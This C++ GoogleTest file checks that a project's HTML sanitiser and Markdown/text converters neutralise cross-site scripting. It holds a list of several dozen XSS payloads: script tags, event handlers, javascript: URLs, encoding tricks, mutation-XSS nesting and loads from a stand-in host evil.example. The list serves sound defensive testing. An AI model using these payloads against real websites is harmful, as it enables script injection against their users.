// Attempts to smuggle something active through the sanitiser and through Markdown. Every output is
// read byte by byte against the allow-list (html_checks.h) and must be a fixpoint.
#include <gtest/gtest.h>
#include <string>
#include <vector>

#include "media/document/html_checks.h"
#include "media/html.h"

namespace parley::media {
namespace {

const std::vector<std::string> kAttempts = {
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=\"/\\evil.example/x\">",
    "<img src=\"/\t/evil.example/x\">",
    "<img src=\"//evil.example/x\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img src=/a.png alt='\"><script>alert(1)</script>'>",
    "<img srcset='https://evil.example/x 2x' src=/ok.png>",
    "<image src=https://evil.example/x>",
    "<picture><source srcset=//evil.example><img src=https://evil.example/y></picture>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,<script>1</script>'>y</a>",
    "<a href='http://a.example\" onmouseover=\"alert(1)'>x</a>",
    "<a href='https://a.example' target=_blank onclick=alert(1) style=x>x</a>",
    "<a href=https://a.example><a href=https://b.example>x</a></a>",
    "<a href=https://a.example><table><td><a href=https://b.example>x</a></td></table></a>",
    "<a href=//evil.example>x</a><a href=/x>y</a><a href=#z>z</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<title><script>alert(1)</script></title><plaintext><script>alert(1)",
    "<style>@import '//evil.example';</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href=//evil.example/>",
    "<body onload=alert(1) background=//evil.example/x>x</body>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p id=x name=getElementById class=y>clobber</p>",
    "<form action=javascript:alert(1)><input type=submit><button formaction=javascript:1>x</form>",
    "<input type=image src=x onerror=alert(1)><input type=checkbox checked onclick=alert(1)>",
    "<table background=//evil.example><td background=javascript:alert(1) colspan=1e9 align=x>x",
    "<table><td rowspan='99999999999999999999'>x</td></table><ol start='-1'><li>x</ol>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><isindex prompt=x action=javascript:alert(1)>",
    "<!--><img src=x onerror=alert(1)>--><!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]><?xml <script>alert(1)</script>?>",
    "<p/onclick=alert(1)/>x<p\x0Bonclick=alert(1)>y",
    "<select><option><script>alert(1)</script></select><keygen autofocus onfocus=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "<b><i></b></i><p><b><p><i></b>x",
    "<table>a<tr>b<td>c<table>d</table></table>e",
    "<p><button><div>x</div></button></p><p><table><p>y</table>",
    "<pre>\n\n\n<b>\nx</b></pre><pre><a href=https://a.example>\nx</a></pre>",
    "<li><ul><li></ul><dd><dl><dt><p></dl>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "\xFF\xFE<\0script>alert(1)</script>",
    "<h1><h2><h3>x</h1></h2></h3><caption>y</caption><tr>z",
};

TEST(Xss, NothingActivePassesTheSanitiser) {
  for (const std::string& attempt : kAttempts) {
    SCOPED_TRACE(attempt);
    check_safe(sanitise_html(attempt));
    check_safe(sanitise_html("<p>" + attempt));
    check_safe(sanitise_html("<table><td>" + attempt));
    check_safe(sanitise_html("<svg><desc>" + attempt));
  }
}

TEST(Xss, NothingActivePassesMarkdownAndText) {
  for (const std::string& attempt : kAttempts) {
    SCOPED_TRACE(attempt);
    const std::string html = markdown_to_html(attempt);
    check_safe(html);
    check_safe(text_to_html(attempt));
    check_safe(markdown_to_html("[x](" + attempt + ")"));
    check_safe(markdown_to_html("![" + attempt + "](https://a.example/x.png '" + attempt + "')"));
    check_safe(markdown_to_html("<" + attempt + ">"));
    check_safe(markdown_to_html(html_to_text(attempt).text));
  }
}

TEST(Xss, ForeignPicturesAreNeverLoaded) {
  const std::string html = sanitise_html(
      "<img src=https://evil.example/a.png alt=cat><img src=//evil.example/b.png>"
      "<img src='https://evil.example/c.png'>");
  EXPECT_EQ(html.find("<img"), std::string::npos) << html;
  EXPECT_NE(html.find(">cat</a>"), std::string::npos) << html;
}

}  // namespace
}  // namespace parley::media
